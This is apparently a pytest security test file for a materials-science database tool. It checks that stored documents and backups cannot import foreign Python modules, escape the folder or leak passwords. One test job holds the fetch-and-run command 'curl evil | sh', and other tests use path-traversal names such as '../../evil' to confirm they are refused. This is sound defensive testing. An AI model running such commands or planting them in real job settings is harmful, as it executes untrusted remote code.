"""Files of others run no code of theirs, and write nothing outside the database."""

import gzip
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from contextlib import suppress
from importlib import import_module
from pathlib import Path
from typing import Any

import bson
import numpy as np
import pytest
from factories import adsorption_calculations, adsorption_document, calculation_document, li_bulk
from monty.json import MontyDecoder, jsanitize
from processes import processes_naming, wait_until
from pymatgen.core import Structure

from anodeflow.backends.registry import load_backend
from anodeflow.calculations.backend_makers import Makers
from anodeflow.calculations.document import CalculationDoc
from anodeflow.campaign.model import Campaign
from anodeflow.core.decoding import foreign_module
from anodeflow.core.errors import DatabaseError, InputError
from anodeflow.core.masking import masked, without_password
from anodeflow.database import server_store
from anodeflow.database.backup import Counted
from anodeflow.database.query import study_documents
from anodeflow.database.results_file import read_results, write_results
from anodeflow.database.store import open_store
from anodeflow.structures.bulk.files import read_crystal
from anodeflow.structures.sites.path_symmetry import PathSymmetry

TRAP = {"@module": "trap", "@class": "Trap"}
CALLABLE = {"@module": "trap", "@callable": "spring"}


@pytest.fixture(params=[TRAP, CALLABLE], ids=["class", "callable"])
def trap(request, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Data that name a module in the working folder; importing it leaves a file behind, which no test may find."""
    (tmp_path / "trap.py").write_text("open('sprung', 'w').close()\nclass Trap: pass\ndef spring(): pass\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "trap", raising=False)
    yield request.param
    assert not (tmp_path / "sprung").exists()
    assert "trap" not in sys.modules


def test_the_trap_springs_where_nobody_looks(tmp_path, monkeypatch):
    """Without the check monty would import the module: else these tests could not fail."""
    (tmp_path / "trap.py").write_text("open('sprung', 'w').close()\nclass Trap: pass\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    MontyDecoder().process_decoded(TRAP)
    assert (tmp_path / "sprung").exists()
    del sys.modules["trap"]


def with_trap(structure: Structure, trap: Any) -> dict[str, Any]:
    entry = json.loads(structure.to_json())
    entry["sites"][0]["properties"] = {"note": [{"deep": trap}]}
    return entry


def write_json(file: Path, content: Any) -> None:
    file.write_text(json.dumps(content).replace("@module", r"\u0040module"))  # as JSON may spell it


def write_gzip(file: Path, content: Any) -> None:
    file.write_bytes(gzip.compress(json.dumps(content).encode()))


def write_yaml(file: Path, content: Any) -> None:
    # JSON is YAML; the tag is one that a safe loader would stumble over, and pymatgen does not
    file.write_text("!tagged " + json.dumps(content))


@pytest.mark.parametrize(
    ("name", "write"),
    [("li.json", write_json), ("li.json.gz", write_gzip), ("li.yaml", write_yaml), ("li.mson", write_json)],
)
def test_structure_file(trap, tmp_path, name, write: Callable[[Path, Any], None]):
    write(tmp_path / name, with_trap(li_bulk(), trap))
    with pytest.raises(InputError, match=r"names the Python module 'trap'"):
        read_crystal(tmp_path / name)
    write(tmp_path / name, {**json.loads(li_bulk().to_json()), "lattice": trap})
    with pytest.raises(InputError, match=r"names the Python module 'trap'"):
        read_crystal(tmp_path / name)


def whole_results(file: Path) -> Path:
    """A results file of one study and all calculations that it rests on."""
    study = adsorption_document()
    return write_results([study], adsorption_calculations(study), file)


def test_results_file(trap, tmp_path):
    file = whole_results(tmp_path / "r.gz")
    assert read_results(file)[0]
    content = json.loads(gzip.decompress(file.read_bytes()))
    content["studies"][0]["slab"] = with_trap(li_bulk(), trap)
    write_gzip(file, content)
    with pytest.raises(InputError, match=r"names the Python module 'trap'"):
        read_results(file)


@pytest.mark.parametrize("number", ["NaN", "Infinity", "1e999", "0.0"])
def test_results_file_with_impossible_numbers(number, tmp_path):
    file = whole_results(tmp_path / "r.gz")
    content = json.loads(gzip.decompress(file.read_bytes()))
    content["studies"][0]["slab"]["lattice"]["matrix"][0] = ["here", 0, 0]
    file.write_bytes(gzip.compress(json.dumps(content).replace('"here"', number).encode()))
    with pytest.raises(InputError, match=r"is no number|has no volume"):
        read_results(file)
    del content["calculations"][0]["id"]
    content["studies"][0]["slab"]["lattice"]["matrix"][0] = [3.4, 0, 0]
    write_gzip(file, content)
    with pytest.raises(InputError, match="holds a document that cannot be read"):
        read_results(file)


def test_home_of_links_in_a_circle(tmp_path, anodeflow, monkeypatch):
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    monkeypatch.setenv("ANODEFLOW_HOME", str(tmp_path / "a" / "home"))
    refused = anodeflow("query")
    assert (refused.status, len(refused.err.splitlines())) == (2, 1)
    assert "ANODEFLOW_HOME" in refused.err


def test_import(trap, tmp_path, anodeflow):
    document = jsanitize(calculation_document(id="calc-slab"), strict=True)
    document["structure"] = with_trap(li_bulk(), trap)
    head = {"format": "anodeflow documents", "version": 1}
    entry = {"@class": "CalculationDoc", "completed_at": None, "document": document}
    (tmp_path / "all.jsonl").write_text(f"{json.dumps(head)}\n{json.dumps(entry)}\n")
    refused = anodeflow("db", "import", tmp_path / "all.jsonl")
    assert (refused.status, "module 'trap'" in refused.err) == (2, True)
    with open_store() as store:
        assert store.count() == 0


def test_document_in_the_database(trap, anodeflow):
    document = jsanitize(adsorption_document(), strict=True)
    document["slab"] = with_trap(li_bulk(), trap)
    with open_store() as store:
        store.update({"uuid": "job", "index": 1, "output": document, "completed_at": "2026-01-01"})
    with pytest.warns(UserWarning, match="it is damaged or of another version"):
        assert study_documents() == []
    assert anodeflow("query").status == 0
    with pytest.raises(ValueError, match="module 'trap'"):
        CalculationDoc.model_validate({"structure": with_trap(li_bulk(), trap)})


def test_calculation_json(trap, home):
    backend = load_backend("emt")
    crystal = Structure([[3.6, 0, 0], [0, 3.6, 0], [0, 0, 3.6]], ["Cu"], [[0, 0, 0]])
    document = Makers(backend).static().calculate(crystal)
    file = Path(document.directory) / "calculation.json"
    content = json.loads(file.read_text())
    content["structure"] = with_trap(crystal, trap)
    file.write_text(json.dumps(content))
    with pytest.raises(InputError, match=r"calculation.json names the Python module 'trap'"):
        Makers(backend).static().calculate(crystal)


def test_what_documents_hold_is_decoded():
    for document in (calculation_document(), adsorption_document()):
        assert foreign_module(jsanitize(document, strict=True)) is None
    for name in ("os", "anodeflow.__main__", "anodeflow.cli.run", "pymatgen.evil", "asexual", "numpy.f2py.__main__", 7):
        assert foreign_module([{"x": ({"@module": name, "@class": "C"},)}]) == str(name)
    assert foreign_module({"@module": "numpy", "@callable": "load"}) == "numpy"
    assert foreign_module({"@module": "jobflow.core.job", "@callable": "store_inputs"}, jobs=True) is None
    schema = {"@module": "anodeflow.studies.adsorption.document", "@callable": "AdsorptionDoc", "@bound": None}
    assert foreign_module(schema) is None, "what a job that was replaced put out names its schema"
    assert foreign_module(schema | {"@callable": "a.b"}) is not None
    assert foreign_module(schema | {"@bound": {"x": 1}}) is not None
    shared: Any = []
    for _ in range(100):
        shared = [shared, shared]  # 2^100 entries for whoever counts them twice
    assert foreign_module(shared) is None


# --- restore ---


def backup_of(file: Path, documents: list[dict], collection: str = "outputs", **changes: Any) -> Path:
    """A backup as an evil hand would make it: sound, but for its `changes`."""
    counted = Counted(collection, lambda words, done: None)
    data = [bson.encode(document) for document in documents]
    for document in data:
        counted.add(document)
    manifest = {
        "format": "anodeflow backup",
        "version": 1,
        "kind": "sqlite",
        "database": "anodeflow",
        "collections": {collection: counted.summary() | {"indexes": {}}},
    } | changes
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(f"anodeflow/{collection}.bson", b"".join(data))
        archive.writestr(
            "backup.json", json.dumps({key: value for key, value in manifest.items() if value is not None})
        )
    return file


def files_below(folder: Path) -> set[Path]:
    return {file for file in folder.rglob("*") if file.is_file()}


@pytest.mark.parametrize(
    "name", ["../../evil", "..", "/tmp/evil", "a/b", "a\\b", "", ".hidden", "system.users", "x" * 200]
)
def test_restore_writes_nothing_outside(name, tmp_path, anodeflow):
    file = backup_of(tmp_path / "backup.zip", [{"_id": 1}], name)
    before = files_below(tmp_path)
    refused = anodeflow("db", "restore", file, "--force")
    assert (refused.status, len(refused.err.splitlines())) == (2, 1)
    assert {path for path in files_below(tmp_path) - before if "evil" in path.name or path.suffix != ".lock"} == set()
    assert not Path("/tmp/evil.collection").exists()


ENTRY = {"documents": 1, "checksum": "0" * 64}


@pytest.mark.parametrize(
    "changes",
    [
        {"version": None},
        {"version": "1"},
        {"version": 2},
        {"kind": 7},
        {"database": None},
        {"database": "../x"},
        {"collections": []},
        {"collections": None},
        {"collections": {"outputs": 3}},
        {"collections": {"outputs": ENTRY | {"documents": "many"}}},
        {"collections": {"outputs": ENTRY | {"checksum": "abc"}}},
        {"collections": {"outputs": ENTRY | {"indexes": {"a": {"key": 3}}}}},
        {"collections": {"outputs": ENTRY}},
        {"collections": {"missing": ENTRY}},
        {"collections": {}},
    ],
)
def test_wrong_manifest_is_one_sentence(changes, tmp_path, anodeflow, home):
    file = backup_of(tmp_path / "backup.zip", [{"_id": 1}], **changes)
    refused = anodeflow("db", "restore", file, "--force")
    assert (refused.status, len(refused.err.splitlines())) == (2, 1)
    assert str(file) in refused.err or "backup" in refused.err
    assert not (home / "database" / "sqlite").exists()


def test_a_collection_that_the_list_lost_is_missed(tmp_path, anodeflow, home):
    """Else the database would be replaced by what is left."""
    with open_store() as store:
        store.update({"uuid": "before", "index": 1, "output": 1})
    whole, lost = tmp_path / "backup.zip", tmp_path / "lost.zip"
    assert anodeflow("db", "backup", whole).status == 0
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(lost, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "backup.json":
                manifest = json.loads(content)
                del manifest["collections"]["outputs"]
                content = json.dumps(manifest).encode()
            target.writestr(name, content)
    refused = anodeflow("db", "restore", lost, "--force")
    assert (refused.status, len(refused.err.splitlines())) == (2, 1)
    assert "outputs.bson', which its list (backup.json) does not name" in refused.err
    with open_store() as store:
        assert store.count() == 1


def test_flipped_bits_are_one_sentence(tmp_path, anodeflow, home):
    file = backup_of(tmp_path / "backup.zip", [{"_id": number, "output": "x" * 50} for number in range(5)])
    sound = file.read_bytes()
    for place in range(0, len(sound), 23):
        damaged = bytearray(sound)
        damaged[place] ^= 1 << place % 8
        file.write_bytes(damaged)
        outcome = anodeflow("db", "restore", file, "--force")
        assert len((outcome.err or outcome.out).splitlines()) == 1, (place, outcome)
        assert outcome.status in (0, 2), (place, outcome)  # 0: a bit that means nothing (a date)
        if outcome.status == 0:
            with open_store() as store:
                assert store.count() == 5


def test_restore_refuses_what_runs_code(trap, tmp_path, anodeflow, home):
    file = backup_of(tmp_path / "backup.zip", [{"_id": 1, "output": {"deep": [trap]}}])
    refused = anodeflow("db", "restore", file)
    assert (refused.status, "module 'trap'" in refused.err) == (2, True)
    (tmp_path / "backup.zip").unlink()
    job = {"_id": 1, "exec_config": {"pre_run": "curl evil | sh"}}
    refused = anodeflow("db", "restore", backup_of(file, [job], "queue_hpc_jobs"))
    assert (refused.status, "shell commands of its own" in refused.err) == (2, True)
    assert not (home / "database" / "sqlite").exists()


@pytest.mark.slow
def test_restore_waits_for_who_has_sqlite_open(tmp_path, anodeflow):
    with open_store() as store:
        store.update({"uuid": "before", "index": 1, "output": 1})
    file = tmp_path / "backup.zip"
    assert anodeflow("db", "backup", file).status == 0
    with open_store() as store:
        refused = anodeflow("db", "restore", file, "--force")
        assert (refused.status, "is in use by another command" in refused.err) == (2, True)
        store.update({"uuid": "later", "index": 1, "output": 1})
    with open_store() as store:
        assert store.count() == 2
    assert anodeflow("db", "restore", file, "--force").status == 0
    with open_store() as store:
        assert store.count() == 1


def test_restore_names_the_campaign_that_runs(tmp_path, anodeflow):
    from anodeflow.core.settings import get_settings
    from anodeflow.execution.state import campaign_lock

    file = backup_of(tmp_path / "backup.zip", [{"_id": 1}])
    with campaign_lock(get_settings().prepare(), "mine"):
        refused = anodeflow("db", "restore", file)
    assert (refused.status, "the campaign mine is running" in refused.err) == (2, True)


# --- what is shown ---


@pytest.mark.parametrize("uri", ["mongodb://me:s3cret@localhost:1/", "mongodb://me:s3/cr@et@localhost:1/"])
def test_password_of_a_server_is_masked_everywhere(uri, anodeflow, monkeypatch, tmp_path):
    monkeypatch.setenv("ANODEFLOW_DATABASE", uri)
    monkeypatch.setattr(server_store, "_SERVER_PATIENCE", 50)
    for command in (["query"], ["db", "status"], ["db", "start"], ["db", "backup", tmp_path / "b.zip"]):
        outcome = anodeflow(*command)
        assert outcome.status == 2
        for part in ("s3cret", "s3/cr", "cr@et", "et@l"):
            assert part not in outcome.out + outcome.err


def test_what_of_a_uri_is_shown():
    assert without_password("mongodb://a:b@c/") == "mongodb://a:***@c/"
    assert without_password("mongodb+srv://a:b:/@c@h/x?y=z") == "mongodb+srv://a:***@h/x?y=z"
    assert masked("see mongodb://a:b@c/ or https://d:8080/e") == "see mongodb://a:***@c/ or https://d:8080/e"


def test_last_line_of_run_masks_the_password(anodeflow, monkeypatch):
    """The server is one that `run` never reaches: what it would compute and print is made up."""
    from anodeflow.execution import local

    report = local.RunReport(campaign="quickstart", succeeded=True, computed=0, reused=0, seconds=1.0)
    monkeypatch.setattr(local, "run_campaign", lambda *_, **__: report)
    monkeypatch.setattr(Campaign, "check", lambda _: [])
    monkeypatch.setenv("ANODEFLOW_DATABASE", "mongodb://me:s3cret@localhost:1/")
    outcome = anodeflow("run", "quickstart", "--backend", "emt", "--quiet")
    assert "mongodb://me:***@localhost:1/" in outcome.out
    assert "s3cret" not in outcome.out + outcome.err


def test_unexpected_error_is_one_sentence(anodeflow, monkeypatch, home):
    from anodeflow.database import query

    def fails(*_: Any, **__: Any) -> None:
        raise ZeroDivisionError("of mongodb://a:b@c/")

    home.mkdir()
    monkeypatch.setattr(query, "result_rows", fails)
    outcome = anodeflow("query")
    assert (outcome.status, len(outcome.err.splitlines())) == (1, 1)
    (file,) = home.glob("traceback-*.txt")
    assert str(file) in outcome.err
    assert "Traceback" in file.read_text()
    assert "a:b@" not in file.read_text() + outcome.err
    assert file.stat().st_mode & 0o077 == 0

    def full(*_: Any, **__: Any) -> None:
        raise OSError(28, os.strerror(28), "/data/x")

    monkeypatch.setattr(query, "result_rows", full)
    outcome = anodeflow("query")
    assert "the disk is full under /data/x" in outcome.err, outcome.err
    assert outcome.status == 1


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a small disk")
@pytest.mark.parametrize("kind", ["sqlite", pytest.param("secantusd", marks=pytest.mark.slow)])
def test_full_disk_is_told_as_full(kind, tmp_path, anodeflow, monkeypatch):
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64M", "tmpfs", disk], capture_output=True).returncode:
        pytest.skip("no file system may be mounted here")
    monkeypatch.setenv("ANODEFLOW_HOME", str(disk / "home"))
    monkeypatch.setenv("ANODEFLOW_EMBEDDED", kind)
    monkeypatch.setenv("ANODEFLOW_DATABASE_IDLE", "0.2")
    try:
        with open_store() as store:
            store.update({"uuid": "kept", "index": 1, "output": 1})
        assert wait_until(lambda: not processes_naming(disk))
        with suppress(OSError), (disk / "ballast").open("wb", buffering=0) as file:
            while True:
                file.write(bytes(4096))

        def fill() -> None:
            with open_store() as store:
                for number in range(20):
                    store.update({"uuid": f"{number}", "index": 1, "output": "x" * 1_000_000})

        with pytest.raises(DatabaseError, match=r"the disk .* is full") as caught:
            fill()
        assert "damaged" not in str(caught.value)
        outcome = anodeflow("query")
        assert outcome.status == 0 or "is full" in outcome.err
        assert wait_until(lambda: not processes_naming(disk))
        (disk / "ballast").unlink()
        with open_store() as store:  # what was recorded is kept
            assert store.count({"uuid": "kept"}) == 1
    finally:
        wait_until(lambda: not processes_naming(disk))
        subprocess.run(["umount", "-l", disk], check=True)


@pytest.mark.parametrize(
    ("module", "names"),
    [
        ("anodeflow.workflows.diffusion", ("DiffusionMaker", "push_adatoms", "review_bands", "collect_diffusion")),
        ("anodeflow.workflows.vacancy", ("VacancyMaker", "make_vacancy", "next_stops", "collect_vacancy")),
        ("anodeflow.schemas.neb", ("NebDoc", "PathSymmetry")),
        ("anodeflow.schemas.diffusion", ("MigrationDoc", "ProfilePoint")),
        ("anodeflow.schemas.interface", ("InterfaceDoc", "InterfaceCandidate")),
    ],
)
def test_what_earlier_versions_name_is_found(module, names):
    """Documents and queued jobs name classes and functions by the modules that they were in."""
    found = import_module(module)
    assert [name for name in names if not callable(getattr(found, name, None))] == []


def test_the_symmetry_of_a_path_is_read_wherever_a_job_names_it():
    symmetry = PathSymmetry(rotation=np.eye(3).tolist(), translation=[0, 0, 0], permutation=[0])
    stored = jsanitize(symmetry, strict=True)
    assert foreign_module(stored) is None
    for module in (stored["@module"], "anodeflow.calculations.neb_document", "anodeflow.schemas.neb"):
        assert MontyDecoder().process_decoded(stored | {"@module": module}) == symmetry


def test_slabs_that_jobs_hand_on_are_known():
    """Outputs of a slab's relaxation hold the slab: a backup with them is restored."""
    from anodeflow.core.decoding import foreign_module
    from anodeflow.structures.slab.slabs import SlabCell

    assert foreign_module({"@module": SlabCell.__module__, "@class": "SlabCell"}) is None
